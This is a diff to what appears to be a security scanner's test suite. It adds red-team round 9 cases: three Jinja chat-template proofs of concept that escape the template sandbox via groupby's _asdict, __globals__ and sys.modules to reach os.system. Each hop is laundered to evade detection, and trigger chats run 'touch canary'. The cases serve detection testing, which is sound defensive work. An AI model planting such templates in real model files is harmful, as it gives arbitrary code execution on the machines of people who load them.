@@ -512,6 +512,7 @@ def malicious_cases() -> list[Case]:
     cases.extend(round8_cases())  # red team round 8 (block at the end of this file)
     cases.extend(template_round7_cases())  # red team round 7 on chat templates (block at the end of this file)
     cases.extend(template_round8_cases())  # red team round 8 on chat templates (block at the end of this file)
+    cases.extend(template_round9_cases())  # red team round 9 on chat templates (block at the end of this file)
     return cases
 
 
@@ -1041,3 +1042,49 @@ def template_round8_cases() -> list[Case]:
              "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND8_C1.encode(), chat=TEMPLATE_ROUND8_C1_CHAT),
     ]
 # ======== END red team round 8 on chat templates ========================================================
+
+
+# ======== BEGIN red team round 9 on chat templates (helper tplfix9) ======================================
+# tests/test_templates_round9.py. Every one keys a groupby tuple by pieces of the last user message:
+# _asdict -> __globals__ (collections) -> _sys -> modules -> os -> system. D1 (classes A + B): each hop laundered
+# through loop.cycle(x), the last call through loop.previtem. D3 (class C + B): ([x] + [])[0] hops, then
+# dict(**{'f': e}).f.system. D4 (class D + B): batch(1) hides the groupby level, [x] * 1 hops, then
+# cycler(*[...]).current.system.
+_R9_HEAD = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages -%}\n{%- set p = (messages|last).content.split('|') -%}\n"
+_R9_TAIL = "{%- endif -%}\n<|assistant|>\n"
+TEMPLATE_ROUND9_D1 = (_R9_HEAD + "{%- for _ in [0] -%}\n{%- set g = loop.cycle(messages|groupby('role')|first) -%}\n"
+                      "{%- set a = loop.cycle(g[p[1]]) -%}{%- set b = loop.cycle(a[p[2]]) -%}{%- set c = loop.cycle(b[p[3]]) -%}\n"
+                      "{%- set d = loop.cycle(c[p[4]]) -%}{%- set e = loop.cycle(d[p[5]]) -%}\n"
+                      "{%- for x in [e, 0] -%}{%- if loop.last -%}{{ loop.previtem.system(p[6]) }}{%- endif -%}{%- endfor -%}\n"
+                      "{%- endfor -%}\n" + _R9_TAIL)
+TEMPLATE_ROUND9_D3 = (_R9_HEAD + "{%- set g = ((messages|groupby('role')|list) + [])[0] -%}\n"
+                      "{%- set a = ([g[p[1]]] + [])[0] -%}{%- set b = ([a[p[2]]] + [])[0] -%}{%- set c = ([b[p[3]]] + [])[0] -%}\n"
+                      "{%- set d = ([c[p[4]]] + [])[0] -%}{%- set e = ([d[p[5]]] + [])[0] -%}\n"
+                      "{{- dict(**{'f': e}).f.system(p[6]) -}}\n" + _R9_TAIL)
+TEMPLATE_ROUND9_D4 = (_R9_HEAD + "{%- for k in messages|groupby('role')|batch(1) -%}\n"
+                      "{%- set a = ([k[0][p[1]]] * 1)[0] -%}{%- set b = ([a[p[2]]] * 1)[0] -%}{%- set c = b.get(p[3]) -%}\n"
+                      "{{- cycler(*[c.modules.os]).current.system(p[4]) -}}\n{%- endfor -%}\n" + _R9_TAIL)
+TEMPLATE_ROUND9_CHAT_6 = json.dumps(
+    {"messages": [{"role": "user", "content": "x|_asdict|__globals__|_sys|modules|os|touch canary"}]})
+TEMPLATE_ROUND9_CHAT_4 = json.dumps(
+    {"messages": [{"role": "user", "content": "x|_asdict|__globals__|_sys|touch canary"}]})
+
+
+def template_round9_cases() -> list[Case]:
+    """Round 9 on chat templates: one case per PoC (D1 also as GGUF), each fired by fire.py's plain render."""
+    return [
+        Case("template_r9_loop_cycle_laundered_hops", "5",
+             "A+B: loop.cycle(x) launders each chat-chosen hop, loop.previtem.system(...) (fired by that chat)",
+             "jinja", "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND9_D1.encode(), chat=TEMPLATE_ROUND9_CHAT_6),
+        Case("gguf_template_r9_loop_cycle_laundered_hops", "5",
+             "A+B: the same as a GGUF tokenizer.chat_template, fired by the trigger chat", "gguf_template",
+             "WW-TPL-002", "model.gguf", _gguf_template(TEMPLATE_ROUND9_D1.encode()), chat=TEMPLATE_ROUND9_CHAT_6),
+        Case("template_r9_list_concat_laundered_hops", "5",
+             "C+B: ([x] + [])[0] launders each hop, dict(**{'f': e}).f.system(...) (fired by that chat)",
+             "jinja", "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND9_D3.encode(), chat=TEMPLATE_ROUND9_CHAT_6),
+        Case("template_r9_batch_level_laundered_hops", "5",
+             "D+C+B: groupby|batch(1) hides the tuple level, [x] * 1 hops, cycler(*[..]).current.system(...) "
+             "(fired by that chat)", "jinja", "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND9_D4.encode(),
+             chat=TEMPLATE_ROUND9_CHAT_4),
+    ]
+# ======== END red team round 9 on chat templates ========================================================
